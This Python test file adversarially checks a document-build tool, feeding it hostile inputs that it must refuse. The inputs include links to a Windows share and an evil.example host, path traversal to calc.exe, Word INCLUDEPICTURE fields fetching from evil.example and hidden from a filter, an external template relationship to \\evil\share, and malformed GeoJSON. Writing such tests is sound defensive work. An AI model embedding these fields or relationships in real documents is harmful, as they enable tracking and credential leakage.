"""An adversarial tester's findings: links that leave the document (a
Windows share, a relative path, //host), Word fields hidden from the raw
OpenXML filter, links to no anchor or to a withheld one, images with no
description, malformed map boundaries, and a pipe as a section file."""

from __future__ import annotations

import json
import os
import re
import zipfile
from pathlib import Path

import pytest

from hostile.conftest import (
    assert_clean_refusal,
    copy_example,
    dossier,
    files_under,
    found_in,
    outputs,
    refused,
)

ADV = Path("sections/en/06-adv.md")
LINK_HINT = "a link goes to an http, https or mailto address, or within the document (#...)"
GEO_HINT = "(export the boundaries again as GeoJSON (a FeatureCollection of polygons))"


def with_section(root: Path, text: str, allow_raw: str = "") -> Path:
    """``text`` as a new annex section 06-adv (and ``allow_raw``)."""
    (root / ADV).write_text(text, encoding="utf-8")
    manifest = root / "dossier.yaml"
    lines = manifest.read_text(encoding="utf-8").split("\n")
    start = lines.index("annex:")
    end = next(i for i in range(start + 1, len(lines)) if not lines[i].startswith("  - "))
    lines.insert(end, "  - 06-adv")
    if allow_raw:
        lines.append(f"allow_raw: [{allow_raw}]")
    manifest.write_text("\n".join(lines), encoding="utf-8")
    return root / ADV


# ---- links ----------------------------------------------------------------------------


@pytest.mark.bad_input
@pytest.mark.parametrize(
    ("target", "shown", "why"),
    [
        (
            "\\\\\\\\evil\\\\share\\\\x.docx",
            "\\\\evil\\share\\x.docx",
            "a backslash: \\\\server\\share opens a Windows share",
        ),
        (
            "../../../../Windows/System32/calc.exe",
            "../../../../Windows/System32/calc.exe",
            "a relative path: a file next to the document",
        ),
        ("//evil.example/x", "//evil.example/x", "no scheme: //host"),
        ("evil.example/page", "evil.example/page", "a relative path: a file next to the document"),
    ],
)
def test_link_that_leaves_the_document(
    base: Path, tmp_path: Path, target: str, shown: str, why: str
) -> None:
    path = with_section(base, f"# Links\n\nText.\n\n[c]({target})\n")
    refused(
        base,
        tmp_path,
        f"{path}:5: error: the link '{shown}' is not allowed ({why}) ({LINK_HINT})",
    )


@pytest.mark.bad_input
def test_source_url_without_a_scheme(base: Path, tmp_path: Path) -> None:
    path = base / "sources.yaml"
    text = path.read_text(encoding="utf-8")
    text = text.replace(
        "- id: police-2026-08-10\n", "- id: police-2026-08-10\n  URL: //evil.example/a\n", 1
    )
    path.write_text(text, encoding="utf-8")
    refused(
        base,
        tmp_path,
        f"{path}:3: error: the URL of source 'police-2026-08-10' is not a web address: "
        "//evil.example/a (give the http or https address",
    )


@pytest.mark.bad_input
def test_raw_html_link_to_another_host_or_a_share(base: Path, tmp_path: Path) -> None:
    path = with_section(
        base,
        '# H\n\n<a href="//evil.example/a">a</a>\n\n<a href="\\\\evil\\share">b</a>\n',
        allow_raw="html",
    )
    refused(
        base,
        tmp_path,
        f"{path}:3: error: raw HTML: the link '//evil.example/a' (no scheme: //host)",
        f"{path}:5: error: raw HTML: the link '\\\\evil\\share' (a backslash: "
        "\\\\server\\share opens a Windows share)",
    )


# ---- raw OpenXML ----------------------------------------------------------------------

FIELD = "raw openxml: a field that loads a file or an address: "
FIELD_HINT = "(Word would fetch it when the document is opened: remove the field)"
OTHER_PREFIX = (
    '<w:p><w:r><x:instrText xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/'
    '2006/main"> INCLUDEPICTURE "http://evil.example/track.png" \\d </x:instrText></w:r></w:p>'
)
CDATA = (
    "<w:p><w:r><w:instrText><![CDATA[ INCLUDEPICTURE "
    '"http://evil.example/cdata.png" \\d ]]></w:instrText></w:r></w:p>'
)


@pytest.mark.leak_vector
@pytest.mark.parametrize("xml", [OTHER_PREFIX, CDATA], ids=["prefix", "cdata"])
def test_openxml_field_hidden_from_the_filter(base: Path, tmp_path: Path, xml: str) -> None:
    path = with_section(base, f"# OX\n\nText.\n\n```{{=openxml}}\n{xml}\n```\n", "openxml")
    refused(base, tmp_path, f"{path}:6: error: {FIELD}<w:p><w:r>", FIELD_HINT)


@pytest.mark.bad_input
def test_openxml_relationship_and_broken_xml(base: Path, tmp_path: Path) -> None:
    path = with_section(
        base,
        '# OX\n\n`<w:hyperlink r:id="rId1"/>`{=openxml}\n\n`<w:p><w:r>`{=openxml}\n',
        "openxml",
    )
    refused(
        base,
        tmp_path,
        f"{path}:3: error: raw openxml: a relationship (r:id): a raw fragment brings none",
        f"{path}:5: error: raw openxml: it is not well-formed XML (",
        "(raw OpenXML may hold formatting only: well-formed XML, no field that loads "
        "anything, no relationship (r:id...))",
    )


# ---- images and anchors ---------------------------------------------------------------

IMAGE_HINT = (
    "(write what the picture shows between the brackets, in words every edition may show: "
    "![Map of the provinces](figures/map.png))"
)


@pytest.mark.bad_input
def test_image_without_a_description(base: Path, tmp_path: Path) -> None:
    path = with_section(
        base,
        "# I\n\n![](figures/northern-marches.png)\n\n"
        "![[Hidden GG01X]{.restricted}](figures/northern-marches.png)\n\n"
        "![Map [part]{.restricted}](figures/northern-marches.png)\n",
    )
    refused(
        base,
        tmp_path,
        f"{path}:3: error: image 'northern-marches.png' has no description {IMAGE_HINT}",
        f"{path}:5: error: image 'northern-marches.png' has a description that is all "
        f"marked: an edition would show none {IMAGE_HINT}",
    )


@pytest.mark.bad_input
def test_link_to_no_anchor(base: Path, tmp_path: Path) -> None:
    path = with_section(
        base,
        "# A {#here}\n\nSome `code`{#code-id}.\n\n[x](#here) and [y](#nowhere)\n\n[z](#code-id)\n",
    )
    hint = "(give the heading, div or span an identifier ({#id}), or link to one that has it)"
    run = refused(
        base,
        tmp_path,
        f"{path}:5: error: the link '#nowhere' goes to no heading, div or span {hint}",
        f"{path}:7: error: the link '#code-id' goes to no heading, div or span {hint}",
    )
    assert "'#here'" not in run.text


ANCHOR = "restricted-heading-adv14x-words"


@pytest.fixture(scope="module")
def anchored(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A build whose public text links to a withheld heading and to a public one."""
    root = copy_example(tmp_path_factory.mktemp("anchor") / "d")
    with_section(
        root,
        "# Anchors\n\n::: {.restricted}\n## Restricted heading ADV14X words {#"
        + ANCHOR
        + "}\n\nHidden.\n:::\n\n[Link to it](#"
        + ANCHOR
        + ") and [the public one](#public-anchor-adv).\n\n## Public heading {#public-anchor-adv}\n",
    )
    out = tmp_path_factory.mktemp("anchor-out")
    run = dossier("build", root, "--out", out)
    assert run.code == 0, run.text
    return out


def documents(build: Path, edition: str) -> list[Path]:
    return [p for p in outputs(build, edition) if p.suffix in {".docx", ".pdf", ".html"}]


@pytest.mark.leak_vector
def test_link_to_a_withheld_heading_is_unlinked(anchored: Path) -> None:
    public, internal = documents(anchored, "public"), documents(anchored, "internal")
    assert len(public) == 3 + 3  # and the submission package's documents
    assert found_in(public, "adv14x") == []
    assert found_in(public, "Link to it and the public one") == [str(p) for p in public]
    html = next(p for p in public if p.suffix == ".html").read_text(encoding="utf-8")
    assert re.search(r'<a href="#[^"]*public-anchor-adv">the public one</a>', html)
    assert found_in(internal, ANCHOR) == [str(p) for p in internal]


# ---- the finished DOCX ----------------------------------------------------------------


@pytest.mark.leak_vector
def test_finished_docx_is_checked_for_fields_and_relationships(anchored: Path) -> None:
    from dossier.check import (
        rawxml,  # new with this test: its absence fails the test, not the module
    )

    docx = next(p for p in documents(anchored, "public") if p.suffix == ".docx")
    with zipfile.ZipFile(docx) as z:
        parts = {name: z.read(name) for name in z.namelist()}
    assert rawxml.package_problems(parts) == []
    body = parts["word/document.xml"].decode("utf-8")
    field = (
        '<w:r><w:instrText xml:space="preserve"> INCLUDEPICTURE "http://evil.example/p.png" '
        "</w:instrText></w:r></w:body>"
    )
    parts["word/document.xml"] = body.replace("</w:body>", field).encode("utf-8")
    rels = parts["word/_rels/document.xml.rels"].decode("utf-8")
    external = (
        '<Relationship Id="rIdEvil" Type="http://schemas.openxmlformats.org/officeDocument/'
        '2006/relationships/attachedTemplate" Target="\\\\evil\\share\\t.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    parts["word/_rels/document.xml.rels"] = rels.replace("</Relationships>", external).encode()
    assert rawxml.package_problems(parts) == [
        "word/_rels/document.xml.rels: an external relationship to '\\\\evil\\share\\t.dotm'",
        "word/document.xml: a field that loads a file or an address",
    ]


# ---- map boundaries -------------------------------------------------------------------


def _feature(coordinates: object, kind: str = "Polygon", properties: object = None) -> str:
    props = {"name": "Northern Marches"} if properties is None else properties
    geometry = {"type": kind, "coordinates": coordinates}
    feature = {"type": "Feature", "properties": props, "geometry": geometry}
    return json.dumps({"type": "FeatureCollection", "features": [feature]})


SQUARE = [[[-17, -38], [-16, -38], [-16, -39], [-17, -38]]]


@pytest.mark.bad_input
@pytest.mark.parametrize(
    ("geojson", "problem"),
    [
        (
            _feature([[["a", "b"], ["c", "d"], ["e", "f"], ["a", "b"]]]),
            'are not usable: feature 0: the position ["a", "b"] holds something not a number',
        ),
        (_feature([]), "are not usable: feature 0: a polygon is not a list of rings"),
        (
            _feature([[[1e308, 1e308], [-1e308, 1], [0, 0], [1e308, 1e308]]]),
            "are not usable: feature 0: the position [1e+308, 1e+308] lies outside "
            "longitude +-180, latitude +-90",
        ),
        (
            _feature(SQUARE).replace("-38]]", "NaN]]"),
            "are not usable: NaN is not a number a map can place",
        ),
        (
            _feature(SQUARE, properties=[]).replace("[]", "null"),
            "are not usable: feature 0: its properties are not a mapping of names to values",
        ),
        (
            _feature(SQUARE, "MultiPolygon", {"name": ["x"]}),
            "are not usable: feature 0: its 'name' is not text",
        ),
        (
            _feature(SQUARE, "MultiPolygon"),
            "are not usable: feature 0: a ring is not a list of at least 4 [longitude, "
            "latitude] positions",
        ),
        (_feature(SQUARE, properties={"nom": "x"}), "are not usable: no feature has a 'name'"),
        ("[" * 200_000 + "]" * 200_000, "are not GeoJSON: they nest too deeply to be read"),
    ],
    ids=["strings", "empty", "huge", "nan", "null", "name", "short", "unnamed", "deep"],
)
def test_malformed_boundaries(base: Path, tmp_path: Path, geojson: str, problem: str) -> None:
    (base / "geo" / "aldoria-provinces.geojson").write_text(geojson, encoding="utf-8")
    line = _boundaries_line(base)
    refused(
        base,
        tmp_path,
        f"dossier.yaml:{line}: error: boundaries 'geo/aldoria-provinces.geojson' {problem}",
        GEO_HINT,
    )


@pytest.mark.bad_input
def test_boundaries_larger_than_the_limit(base: Path, tmp_path: Path) -> None:
    path = base / "geo" / "aldoria-provinces.geojson"
    size = path.stat().st_size
    manifest = base / "dossier.yaml"
    limit = max(size - 1, 0)
    big = max(limit, 300_000)  # the example's figure must still pass
    with manifest.open("a", encoding="utf-8") as f:
        f.write(f"limits: {{image_bytes: {big}}}\n")
    path.write_text(path.read_text(encoding="utf-8") + " " * (big + 1 - size), encoding="utf-8")
    refused(
        base,
        tmp_path,
        f"dossier.yaml:{_boundaries_line(base)}: error: boundaries "
        f"'geo/aldoria-provinces.geojson' are {big + 1:,} bytes, more than the limit of "
        f"{big:,} (simplify the outlines, or raise 'limits: {{image_bytes: ...}}'",
    )


def _boundaries_line(root: Path) -> int:
    lines = (root / "dossier.yaml").read_text(encoding="utf-8").split("\n")
    return next(i for i, line in enumerate(lines, 1) if line.startswith("  boundaries: "))


# ---- a pipe ---------------------------------------------------------------------------


@pytest.mark.bad_input
def test_a_pipe_as_a_section_file(base: Path, tmp_path: Path) -> None:
    with_section(base, "")
    (base / ADV).unlink()
    os.mkfifo(base / ADV)
    run = dossier("check", base, timeout=20)
    assert_clean_refusal(
        run,
        f"{base / ADV}\n  error: this is not a regular file (a pipe, a socket or a device): "
        "reading it could wait forever (put a text file in its place)",
    )
    (base / "sources.yaml").unlink()
    os.mkfifo(base / "sources.yaml")
    out = tmp_path / "out"
    run = dossier("build", base, "--out", out, timeout=20)
    assert_clean_refusal(
        run,
        f"{base / 'sources.yaml'}: error: this is not a regular file (a pipe, a socket or a "
        "device)",
    )
    assert files_under(out) == set()
